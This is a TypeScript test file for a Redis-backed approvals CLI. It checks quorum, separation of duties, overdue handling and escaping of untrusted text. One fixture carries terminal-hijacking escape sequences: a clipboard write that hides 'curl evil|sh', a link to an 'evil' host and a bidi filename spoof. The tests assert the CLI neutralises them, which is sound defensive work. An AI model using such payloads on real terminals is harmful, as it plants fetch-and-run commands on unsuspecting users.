import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { createApprovalWorkflow, type StoreBackedApprovalWorkflow } from '@warden/approvals';
import { createRedisApprovalStore, type RedisApprovalStore } from '@warden/approvals-redis';
import { describeWithService } from '@warden/testing';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { runWarden } from '../test/run-cli.ts';

let keyPrefix: string;
let store: RedisApprovalStore;
let workflow: StoreBackedApprovalWorkflow;

const warden = (...args: string[]) => runWarden([...args, '--key-prefix', keyPrefix]);

describeWithService('redis', 'warden approvals against real Redis', () => {
  beforeEach(() => {
    keyPrefix = `cli-${randomUUID()}:`;
    store = createRedisApprovalStore({ url: process.env.REDIS_URL, keyPrefix });
    workflow = createApprovalWorkflow({ store });
  });
  afterEach(async () => {
    await store.close();
  });

  it('lists pending requests, shows one, and decides it to quorum with the operator recorded', async () => {
    const id = await workflow.request({
      requester: 'alice',
      description: 'rotate the signing key',
      tier: 'security-review',
      payload: { key: 'signing', action: 'rotate' },
    });
    const list = await warden('approvals', 'list', '--json');
    expect(list.code).toBe(0);
    expect(JSON.parse(list.stdout).requests).toEqual([
      expect.objectContaining({ id, status: 'pending', quorum: 2, overdue: false }),
    ]);
    const text = await warden('approvals', 'list', '--tier', 'security-review');
    expect(text.stdout).toContain(`${id}  security-review  0/2  by alice  rotate the signing key`);
    expect((await warden('approvals', 'list', '--tier', 'auto')).stdout.trim()).toBe('no pending requests');

    const show = await warden('approvals', 'show', id);
    expect(show.code).toBe(0);
    expect(show.stdout).toContain(`request ${id}: pending (0 of 2 approvals)`);
    expect(show.stdout).toContain('payload digest: sha256:');
    expect(show.stdout).toContain('"action": "rotate"');

    const first = await warden('approvals', 'approve', id, '--approver', 'sam');
    expect(first.code).toBe(0);
    expect(first.stdout).toContain('pending (1 of 2 approvals)');
    const second = await warden('approvals', 'approve', id, '--approver', 'sue', '--json');
    expect(second.code).toBe(0);
    expect(JSON.parse(second.stdout)).toMatchObject({ status: 'approved', decidedBy: 'sue' });
    expect(await workflow.getStatus(id)).toBe('approved');
    expect(await workflow.isApprovedFor(id, { key: 'signing', action: 'rotate' })).toBe(true);
  });

  it('rejects with the reason kept; a decided request is refused with exit 1', async () => {
    const id = await workflow.request({ requester: 'alice', description: 'open port 22', tier: 'peer-review' });
    const rejected = await warden('approvals', 'reject', id, '--approver', 'bob', '--reason', 'use the bastion');
    expect(rejected.code).toBe(0);
    expect(rejected.stdout).toContain('rejected');
    expect(rejected.stdout).toContain('reason: use the bastion');
    expect((await workflow.get(id)).reason).toBe('use the bastion');
    const again = await warden('approvals', 'approve', id, '--approver', 'carol');
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('not pending');
  });

  it('refuses self-approval (attacker: a requester who runs the command as an operator), exit 1', async () => {
    const id = await workflow.request({ requester: 'mallory', description: 'grant me admin', tier: 'peer-review' });
    for (const name of ['mallory', 'Mallory', ' mallory ']) {
      const run = await warden('approvals', 'approve', id, '--approver', name);
      expect(run.code).toBe(1);
      expect(run.stderr).toContain('separation of duties');
    }
    expect(await workflow.getStatus(id)).toBe('pending');
  });

  it('needs an operator identity and a rejection reason, exit 2; an unknown id is exit 1', async () => {
    const id = await workflow.request({ requester: 'alice', description: 'x', tier: 'peer-review' });
    const noApprover = await warden('approvals', 'approve', id);
    expect(noApprover.code).toBe(2);
    expect(noApprover.stderr).toContain('approve needs --approver <name>');
    const noReason = await warden('approvals', 'reject', id, '--approver', 'bob');
    expect(noReason.code).toBe(2);
    expect(noReason.stderr).toContain('reject needs --reason <text>');
    const unknown = await warden('approvals', 'show', 'apr_nope');
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain('apr_nope');
    expect(await workflow.getStatus(id)).toBe('pending');
  });

  it('leaves an overdue request to the host (expire or escalate is its policy), exit 1', async () => {
    const past = createApprovalWorkflow({ store, now: () => Date.now() - 2 * 86_400_000 });
    const id = await past.request({ requester: 'alice', description: 'stale', tier: 'peer-review' });
    expect(JSON.parse((await warden('approvals', 'show', id, '--json')).stdout).overdue).toBe(true);
    const run = await warden('approvals', 'approve', id, '--approver', 'bob');
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('is overdue');
    expect((await store.get(id))?.status).toBe('pending');
  });

  it('treats a deadline that cannot be read as overdue, as the workflow does (attacker: anyone who can write to Redis)', async () => {
    // Date.parse('soon') is NaN, and NaN <= now is false: the command called the record on time
    // and handed it to a workflow with its own defaults, which expired it (not the host's policy).
    const id = await workflow.request({ requester: 'alice', description: 'deploy', tier: 'peer-review' });
    const key = `${keyPrefix}{${id}}:request`;
    const redis = (...args: string[]) => execFileSync('redis-cli', ['-u', process.env.REDIS_URL ?? '', ...args]);
    const record = JSON.parse(redis('HGET', key, 'data').toString());
    redis('HSET', key, 'data', JSON.stringify({ ...record, expiresAt: 'soon' }));
    expect(JSON.parse((await warden('approvals', 'show', id, '--json')).stdout).overdue).toBe(true);
    expect((await warden('approvals', 'list')).stdout).toContain('OVERDUE');
    const run = await warden('approvals', 'approve', id, '--approver', 'bob');
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('is overdue');
    expect((await store.get(id))?.status).toBe('pending');
  });

  it('prints a hostile payload without letting it drive the terminal (attacker: whoever files the request)', async () => {
    const hostile =
      'ok\u001b[2J\u001b[H\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsfHNo\u0007\rstatus: approved\n' +
      'decided by: security-team\u009b31m\u009d8;;http://evil\u009c\u202egnp.exe\u200b\u0008\u007f';
    const id = await workflow.request({
      // A principal may hold neither control characters nor bidirectional overrides, but may hold these.
      requester: 'mallory\u200f\u200bgnp',
      description: hostile,
      tier: 'peer-review',
      payload: { command: hostile, [hostile]: [hostile] },
    });
    for (const args of [
      ['approvals', 'show', id],
      ['approvals', 'show', id, '--json'],
      ['approvals', 'list'],
      ['approvals', 'list', '--json'],
      ['approvals', 'reject', id, '--approver', 'bob', '--reason', hostile],
    ]) {
      const run = await warden(...args);
      expect(run.code).toBe(0);
      // No escape (ESC, C1 CSI/OSC/ST), carriage return, backspace, DEL or bidi/zero-width character reaches the terminal.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the characters the attacker sent
      expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e]/u);
      // Nor can the payload forge a line of the command's own output.
      expect(run.stdout).not.toMatch(/^status: approved/m);
      expect(run.stdout).not.toMatch(/^decided by: security-team/m);
      expect(run.stdout).toContain('\\u001b[2J');
    }
    const json = JSON.parse((await warden('approvals', 'show', id, '--json')).stdout);
    expect(json.description).toBe(hostile); // escaped for the terminal, the same value for a script
    expect(json.payload.command).toBe(hostile);
  });

  it('prints a record doctored in Redis without a forged line (attacker: anyone who can write to Redis)', async () => {
    // Whoever can write the key chooses every field. The store refuses a record of the wrong
    // shape (a status, tier or quorum that is no such thing); text fields that still parse (an
    // approver's name, a reason) reach the terminal and are escaped like every other field.
    const id = await workflow.request({ requester: 'alice', description: 'deploy', tier: 'peer-review' });
    const key = `${keyPrefix}{${id}}:request`;
    const redis = (...args: string[]) => execFileSync('redis-cli', ['-u', process.env.REDIS_URL ?? '', ...args]);
    const record = JSON.parse(redis('HGET', key, 'data').toString());
    const forged = '\nstatus: approved\ndecided by: security-team';
    const write = (doctored: object) => redis('HSET', key, 'data', JSON.stringify({ ...record, ...doctored }));
    write({
      description: `deploy${forged}`,
      decisions: [{ decision: 'approve', approver: `bob${forged}`, at: record.createdAt, reason: forged }],
    });
    const parsed = [await warden('approvals', 'list'), await warden('approvals', 'show', id)];
    for (const run of parsed) {
      expect(run.code).toBe(0);
      expect(run.stdout).toContain('\\u000astatus: approved');
    }
    write({ tier: `peer-review${forged}`, quorum: `1${forged}` });
    const wrongShape = [await warden('approvals', 'list'), await warden('approvals', 'show', id)];
    write({ status: `approved${forged}` });
    wrongShape.push(await warden('approvals', 'show', id));
    for (const run of wrongShape) {
      expect(run.code).toBe(2);
      expect(run.stderr).toContain('approval store');
    }
    for (const run of [...parsed, ...wrongShape]) {
      for (const output of [run.stdout, run.stderr]) {
        expect(output).not.toMatch(/^status: approved/m);
        expect(output).not.toMatch(/^decided by: security-team/m);
      }
    }
  });

  it('refuses an empty --key-prefix (attacker: whoever leaves $PREFIX empty) instead of listing another, empty store, exit 2', async () => {
    // It read `{index}:…` at the top of the keyspace: "no pending requests", exit 0, while requests waited.
    await workflow.request({ requester: 'alice', description: 'waiting', tier: 'peer-review' });
    for (const args of [
      ['approvals', 'list', '--key-prefix', ''],
      ['approvals', 'list', '--json', '--key-prefix='],
    ]) {
      const run = await runWarden(args);
      expect(run.code).toBe(2);
      expect(run.stderr).toContain('--key-prefix must not be empty');
      expect(run.stdout).not.toContain('no pending requests');
    }
  });

  it('escapes combining marks, variation selectors and look-alike blanks in stored names and text (attacker: whoever files the request)', async () => {
    // `bob` + U+00A0 reads as bob; U+0336 strikes a word through; U+FE0F hides behind a letter.
    const description = 'rotate\u00a0key for ali\u0336ce\ufe0f\u3000\u2800';
    const id = await workflow.request({ requester: 'mallory\u0301', description, tier: 'peer-review' });
    const rejected = await warden('approvals', 'reject', id, '--approver', 'bob', '--reason', 'no\u00a0way\u20dd');
    expect(rejected.code).toBe(0);
    for (const run of [
      rejected,
      await warden('approvals', 'show', id),
      await warden('approvals', 'show', id, '--json'),
    ]) {
      expect(run.stdout).not.toMatch(/[\p{Mn}\p{Me}\u00a0\u3000\u2800]/u);
      expect(run.stdout).toContain('rotate\\u00a0key for ali\\u0336ce\\ufe0f\\u3000\\u2800');
      expect(run.stdout).toContain('mallory\\u0301');
      expect(run.stdout).toContain('no\\u00a0way\\u20dd');
    }
    expect(JSON.parse((await warden('approvals', 'show', id, '--json')).stdout).description).toBe(description);
  });
});
